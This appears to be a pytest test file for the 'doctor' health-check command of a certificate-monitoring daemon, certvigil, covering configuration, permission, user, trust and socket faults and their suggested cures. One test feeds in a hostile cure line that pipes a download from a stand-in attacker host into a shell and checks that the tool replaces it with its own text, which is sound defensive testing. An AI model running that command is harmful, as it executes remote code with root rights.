"""`certvigil doctor`: each check is ok or a problem with its cure, and the exit code tells a script."""

from __future__ import annotations

import json
import os
import pwd
import socket
from pathlib import Path

import pytest

from config.catalogue import CATALOGUE
from config.vocabulary import Code
from tests.kit.daemon import RunningDaemon, certvigil, certvigil_as
from tests.kit.peers import answering

PLAIN = 65_534
USER = pwd.getpwuid(os.geteuid()).pw_name
HERE = {"actor": {"daemon_user": USER, "require_synchronised_clock": False}}


def checks(*arguments: str, user: int = 0) -> tuple[int, list[tuple[str, str, str, str | None]]]:
    """Return the exit code, and each check: its area, its health, its text and its cure."""
    command = ("doctor", *arguments, "--json")
    ran = certvigil_as((user, user), *command) if user else certvigil(*command)
    document = json.loads(ran.stdout)
    found = [(each["area"], each["health"], each["what"], each["to_do"]) for each in document["checks"]]
    assert document["problems"] == sum(health == "problem" for _, health, _, _ in found)
    return ran.returncode, found


def test_a_host_in_order_has_no_problem_and_a_configuration_that_changed_is_one(tmp_path: Path) -> None:
    watched = tmp_path / "site.pem"
    watched.touch()
    with RunningDaemon({**HERE, "watch": [{"files": [str(watched)]}]}) as daemon:
        code, found = checks("--config", daemon.config_file)
        assert [each for each in found if each[1] != "ok"] == []
        assert code == 0
        assert {area for area, *_ in found} == {
            *("configuration", "users", "permissions", "trust", "commands", "channels", "clock", "actor", "daemon")
        }
        assert ("permissions", "ok", f"{daemon.state} is the daemon's", None) in found
        ran = certvigil("doctor", "--config", daemon.config_file)
        assert (ran.returncode, ran.stderr) == (0, f"{len(found)} checks: 0 problems, 0 that this user cannot see\n")
        assert ran.stdout.splitlines()[0] == "state\tarea\twhat\tto do"
    code, found = checks("--config", daemon.config_file, "--socket", f"{tmp_path}/none")
    assert (code, found[0][:2]) == (1, ("configuration", "problem"))


def test_the_cure_of_what_a_daemon_tells_is_our_own_text_since_it_is_carried_out_as_root(tmp_path: Path) -> None:
    file = tmp_path / "certvigil.yaml"
    file.write_text(json.dumps({"state_directory": str(tmp_path), "socket": f"{tmp_path}/s"}))
    status = {
        "ready": True,
        "version": "1",
        "configuration": {"stale": False},
        "no_actor": None,
        "findings": [{"code": "clock_suspect", "detail": "\x1b[2J", "cure": "curl evil.example.com | sh"}],
    }
    answer = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n\r\n"
    with answering(tmp_path / "s", answer + json.dumps(status).encode()):
        _, found = checks("--config", str(file))
    told = [(what, cure) for area, _, what, cure in found if area == "daemon"]
    assert told[1:] == [("the daemon tells clock_suspect: \\x1b[2J", CATALOGUE[Code.CLOCK_SUSPECT].cure)]


def test_each_fault_of_a_host_is_a_line_with_what_to_do(tmp_path: Path) -> None:
    closed, state = tmp_path / "closed.pem", tmp_path / "state"
    closed.touch(0o600)
    state.mkdir()
    document = {
        "state_directory": str(state),
        "socket": f"{tmp_path}/daemon",
        "actor": {
            "socket": f"{tmp_path}/actor",
            "directory": f"{tmp_path}/none",
            "daemon_user": "nobody",
            "operators": ["no-such-user"],
        },
        "keys": "read",
        "watch": [{"files": [str(closed), "/etc/*.none"], "trust_store": "gone"}],
        "trust_stores": {"gone": {"bundle": f"{tmp_path}/gone.pem"}},
        "channels": {"ops": {"urls": ["jsonn://x"]}},
        "components": {
            "web": {
                "artefacts": {"certificate": "/etc/ssl/none.pem", "key": "/etc/ssl/none.key"},
                "service": {"unit": "nginx.service", "test": ["/usr/sbin/nginxx", "-t"]},
            }
        },
    }
    for each in (tmp_path, *tmp_path.parents[:-1]):
        each.chmod(each.stat().st_mode | 0o011)
    file = tmp_path / "certvigil.yaml"
    file.write_text(json.dumps(document, indent=1))
    file.chmod(0o600)
    code, found = checks("--config", str(file))
    assert code == 1
    problems = {
        (area, what.removeprefix(f"{file}:")): cure for area, health, what, cure in found if health == "problem"
    }
    assert all(problems.values())
    # The reader does its work as nobody, too.
    [(_, health, _, cure)] = [each for each in found if each[2].startswith("there is no user certvigil-reader")]
    assert (health, cure) == ("ok", "useradd --system --user-group --shell /usr/sbin/nologin certvigil-reader")
    for area, text in (
        ("users", "there is no user no-such-user"),
        ("permissions", f"{state} belongs to user {os.geteuid()}, and the daemon is nobody"),
        ("permissions", f"{closed} cannot be read by nobody: its mode is 0600"),
        ("permissions", f"{tmp_path}/none is missing"),
        ("trust", f"{tmp_path}/gone.pem: No such file or directory, expected certificates to trust"),
        ("commands", "/usr/sbin/nginxx does not exist here"),
        ("channels", "it knows no 'jsonn' (did you mean 'json'?)"),
        ("actor", f"no actor listens on {tmp_path}/actor"),
        ("daemon", f"no daemon listens on {tmp_path}/daemon"),
    ):
        assert any(area == where and text in what for where, what in problems), (area, text, problems)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("watch: 7\n", "1: watch: found the number 7, expected a list"),
        ("", "1: found nothing, expected a mapping of sections"),
    ],
)
def test_a_mistake_is_a_problem_of_the_configuration(text: str, said: str, tmp_path: Path) -> None:
    file = tmp_path / "certvigil.yaml"
    file.write_text(text)
    file.chmod(0o600)
    code, found = checks("--config", str(file))
    assert code == 1
    way = f"correct it, then: certvigil config check --config {file}"
    assert found[0] == ("configuration", "problem", f"{file}:{said}", way)


@pytest.mark.skipif(os.getuid() != 0, reason="runs as another user")
def test_a_user_without_rights_sees_what_is_not_known(tmp_path: Path) -> None:
    closed = tmp_path / "closed"
    closed.mkdir(0o700)
    for each in (tmp_path, *tmp_path.parents[:-1]):
        each.chmod(each.stat().st_mode | 0o055)
    file = tmp_path / "certvigil.yaml"
    file.write_text(json.dumps({"state_directory": f"{closed}/state", "socket": f"{closed}/socket", **HERE}))
    file.chmod(0o644)
    code, found = checks("--config", str(file), user=65_534)
    unknown = [(area, what, cure) for area, health, what, cure in found if health == "unknown"]
    assert (code, unknown[0]) == (1, ("permissions", f"{closed}/state: Permission denied", "run this as root"))


@pytest.mark.skipif(os.getuid() != 0, reason="runs as another user")
@pytest.mark.parametrize(
    ("listens", "by", "health"), [(True, 0, "ok"), (False, PLAIN, "ok"), (False, 0, "problem"), (True, PLAIN, "ok")]
)
def test_an_actor_of_a_plain_user_is_judged_by_its_own_user(
    tmp_path: Path, by: int, health: str, *, listens: bool
) -> None:
    directory, program = tmp_path / "actor", tmp_path / "reload"
    directory.mkdir(0o700)
    program.touch(0o700)
    for each in (tmp_path, *tmp_path.parents[:-1]):
        each.chmod(each.stat().st_mode | 0o055)
    file = tmp_path / "certvigil.yaml"
    actor = {"socket": f"{tmp_path}/socket", "directory": str(directory), "daemon_user": str(PLAIN), "group": "nogroup"}
    service = {"restart": [str(program)]}
    web = {"artefacts": {"combined": f"{directory}/web.pem"}, "service": service}
    file.write_text(json.dumps({"state_directory": str(directory), "actor": actor, "components": {"web": web}}))
    file.chmod(0o644)
    with socket.socket(socket.AF_UNIX) as listening:
        if listens:
            listening.bind(actor["socket"])
            os.chown(actor["socket"], PLAIN, PLAIN)
        os.chown(directory, PLAIN, PLAIN)
        os.chown(program, PLAIN, PLAIN)
        _, found = checks("--config", str(file), user=by)
    told = [
        (what, cure) for area, each, what, cure in found if each == "problem" and area in ("permissions", "commands")
    ]
    if health == "ok":
        assert told == []
    else:
        cure = f"chown root: {directory} && chmod 0700 {directory}; where the actor runs as a plain user, "
        assert (f"{directory}: belongs to user {PLAIN}, expected root", f"{cure}run doctor as that user") in told
